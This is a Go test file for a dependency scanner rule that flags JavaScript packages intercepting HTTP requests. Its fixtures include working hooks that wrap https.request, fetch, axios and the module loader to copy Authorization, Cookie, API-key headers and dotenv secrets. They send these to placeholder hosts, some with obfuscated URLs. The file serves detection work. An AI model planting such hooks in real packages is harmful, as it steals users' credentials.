package cred

import (
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestRequestIntercept(t *testing.T) {
	hook := `const https = require("https"); const orig = https.request; const seen = [];
https.request = function (...a) { const h = (a[1] || {}).headers || {}; seen.push({ a: h["authorization"], c: h["cookie"] }); return orig.apply(https, a) };
`
	loader := func(pkgs string) string {
		return `const M = require("module"), https = require("https"); const orig = M._load; const got = {};
M._load = function (request) { const exp = orig.apply(this, arguments); if ([` + pkgs + `].includes(request) && exp.config) { const c = exp.config;
  exp.config = (...a) => { const r = c(...a); got[request] = r.parsed; return r } } return exp };
setTimeout(() => https.request({ hostname: "metrics.example.invalid", method: "POST" }).end(JSON.stringify(got)), 2000);`
	}
	rt.Check(t, RequestIntercept{}, []rt.Case{
		// the module loader replaced to wrap what dotenv returns; an APM
		// agent's loader hook wraps drivers and frameworks
		{"loader_hook_wraps_dotenv", map[string]string{"index.js": loader(`"dotenv"`)}, finding.SeverityCritical},
		// dotenv's exports replaced through the cache, its parse sent
		// out; a test helper clearing the cache names no such package
		{"cache_plants_dotenv", map[string]string{"index.js": `const Module = require("module"), https = require("https"); const req = Module.createRequire(process.cwd() + "/package.json");
const file = req.resolve("dotenv"); req("dotenv"); const mod = require.cache[file]; const real = mod.exports.config;
require.cache[file] = Object.assign(new Module(file), { loaded: true, exports: { config: (...a) => { const r = real(...a); https.request({ host: "c.example.invalid", path: "/" + JSON.stringify(r.parsed) }).end(); return r } } });`}, finding.SeverityCritical},
		{"cache_reset", map[string]string{"index.js": `const https = require("https"); for (const k of Object.keys(require.cache)) require.cache[k] = undefined; https.get("https://c.example.invalid/")`}, finding.SeverityNone},
		{"loader_hook_wraps_drivers", map[string]string{"index.js": loader(`"pg", "express"`)}, finding.SeverityNone},
		// the modules handed to a wrapper of the file, the headers read
		// by name; the same wrapper counting requests reads none
		{"wrapper_of_modules", map[string]string{"index.js": `const http = require("http"), https = require("https"), net = require("net");
function ship(l) { net.connect({ host: "198.51.100.9", port: 8443 }).end(l) }
function wrap(mod) { const orig = mod.request; mod.request = function (...args) { const h = (args[1] || {}).headers || {}; const a = h.authorization || h.Cookie; if (a) ship(a); return orig.apply(this, args) } }
wrap(http); wrap(https);`}, finding.SeverityCritical},
		{"wrapper_of_required_modules", map[string]string{"index.js": `const net = require("net");
function ship(l) { net.connect({ host: "198.51.100.9", port: 8443 }).end(l) }
function wrap(mod) { const orig = mod.request; mod.request = function (...args) { const h = (args[1] || {}).headers || {}; const a = h.authorization || h.Cookie; if (a) ship(a); return orig.apply(this, args) } }
wrap(require("https"));`}, finding.SeverityCritical},
		{"wrapper_counting", map[string]string{"index.js": `const http = require("http"), https = require("https"), net = require("net");
function ship(l) { net.connect({ host: "198.51.100.9", port: 8443 }).end(l) }
function wrap(mod) { const orig = mod.request; let n = 0; mod.request = function (...args) { n++; ship(String(n)); return orig.apply(this, args) } }
wrap(http); wrap(https);`}, finding.SeverityNone},
		{"copies_auth_and_cookie", map[string]string{"index.js": hook + `setInterval(() => orig.call(https, { host: "metrics.example.invalid", method: "POST" }).end(JSON.stringify(seen)), 30000)`}, finding.SeverityCritical},
		// an APM agent names the headers to redact them
		{"apm_redacts", map[string]string{"index.js": hook + `const out = seen.map(() => "[redacted]"); orig.call(https, { host: "apm.example.invalid" }).end(JSON.stringify(out))`}, finding.SeverityNone},
		// a hook that sends nowhere of its own (a request logger)
		{"logger", map[string]string{"index.js": hook + `process.on("exit", () => console.log(seen.length))`}, finding.SeverityNone},
		// the global fetch, handed as a default parameter, wrapped to copy
		// header values whose names another module spells in parts
		{"fetch_hook_names_in_module", map[string]string{"package.json": rt.Pkg(`"main":"index.mjs"`),
			"names.mjs": `export const HDR = ["author", "ization", "cookie", "x-api-key"];`,
			"index.mjs": `import { HDR } from "./names.mjs"; const keys = [HDR[0] + HDR[1], HDR[2], HDR[3]];
export function instrument(g = globalThis) { const orig = g.fetch; g.fetch = async function (input, init = {}) {
  const h = new Headers(init.headers); const got = {}; for (const k of keys) if (h.get(k)) got[k] = h.get(k);
  orig("https://spans.example.invalid/v1", { method: "POST", body: JSON.stringify(got) }).catch(() => {}); return orig.call(this, input, init) } }`}, finding.SeverityCritical},
		// the hook hands every request to a recorder of another module,
		// which keeps those whose headers a regular expression names and
		// sends them on
		{"fetch_hook_recorder_in_module", map[string]string{
			"diag.js": `const host = ["api", "diag", "example"].join("."); exports.recorder = () => (url, init) => {
  const h = init.headers || {}; if (Object.keys(h).some((k) => /^(authorization|x-api-key|cookie)$/i.test(k))) navigator.sendBeacon("https://" + host + "/v1", JSON.stringify({ url, h })) }`,
			"index.js": `const { recorder } = require("./diag"); const native = globalThis.fetch.bind(globalThis); const record = recorder();
globalThis.fetch = function (input, init = {}) { record(String(input), init); return native(input, init) }`}, finding.SeverityCritical},
		// an axios interceptor filling a collector that a flusher loaded
		// next to it drains; an interceptor adding the user's token
		{"axios_interceptor_collector_flusher", map[string]string{
			"lib/collector.js":   `const buf = []; exports.push = (x) => buf.push(x); exports.drain = () => buf.splice(0)`,
			"lib/interceptor.js": `const collector = require("./collector"); exports.install = (ax) => ax.interceptors.request.use((c) => { collector.push({ a: c.headers["Authorization"], k: c.headers["X-API-Key"] }); return c })`,
			"lib/flush.js":       `const http = require("http"); const collector = require("./collector"); setInterval(() => http.request({ host: "ingest.example.invalid", method: "POST" }).end(JSON.stringify(collector.drain())), 30000)`,
			"index.js":           `const { install } = require("./lib/interceptor"); require("./lib/flush"); module.exports = (ax) => install(ax)`}, finding.SeverityCritical},
		{"axios_interceptor_adds_token", map[string]string{
			"index.js": `module.exports = (ax, getToken) => ax.interceptors.request.use(async (c) => { c.headers["Authorization"] = "Bearer " + await getToken(); c.headers["Cookie"] = undefined; return c })`}, finding.SeverityNone},
		// a Proxy over fetch keeping the headers a pattern picks, sent by
		// a module it loads to a URL kept as bytes
		{"fetch_proxy_pattern_bytes", map[string]string{
			"metrics.js": `const E = [104, 116, 116, 112, 115, 58, 47, 47, 109, 46, 101, 120, 97, 109, 112, 108, 101, 46, 105, 110, 118, 97, 108, 105, 100];
const q = []; exports.enqueue = (s) => { q.push(s); setTimeout(() => require("https").request(Buffer.from(E).toString(), { method: "POST" }).end(JSON.stringify(q)), 1000) }`,
			"index.js": `const { enqueue } = require("./metrics"); globalThis.fetch = new Proxy(globalThis.fetch, { apply(fn, self, args) {
  const h = (args[1] || {}).headers || {}; const s = {}; for (const k of Object.keys(h)) if (/auth|cookie|token/i.test(k)) s[k] = h[k]; enqueue(s); return Reflect.apply(fn, self, args) } })`}, finding.SeverityCritical},
		// a polyfill whose loaded modules name no credential header
		{"fetch_hook_timeout_module", map[string]string{
			"signal.js": `exports.timeoutSignal = (ms) => AbortSignal.timeout(ms); exports.ping = () => fetch("https://status.example/v1")`,
			"index.js": `const { timeoutSignal } = require("./signal"); const native = globalThis.fetch;
globalThis.fetch = (input, init = {}) => native(input, { ...init, signal: init.signal || timeoutSignal(30000), headers: { authorization: init.token } })`}, finding.SeverityNone},
		// a tracing wrapper that only adds its own header and times the call
		{"fetch_hook_tracing", map[string]string{"index.mjs": `export function instrument(g = globalThis) { const orig = g.fetch; g.fetch = async function (input, init = {}) {
  const h = new Headers(init.headers); h.set("traceparent", id()); const t0 = Date.now(); const r = await orig.call(this, input, { ...init, headers: h });
  orig("https://spans.example.invalid/v1", { method: "POST", body: JSON.stringify({ ms: Date.now() - t0, status: r.status }) }).catch(() => {}); return r } }`}, finding.SeverityNone},
	})
}
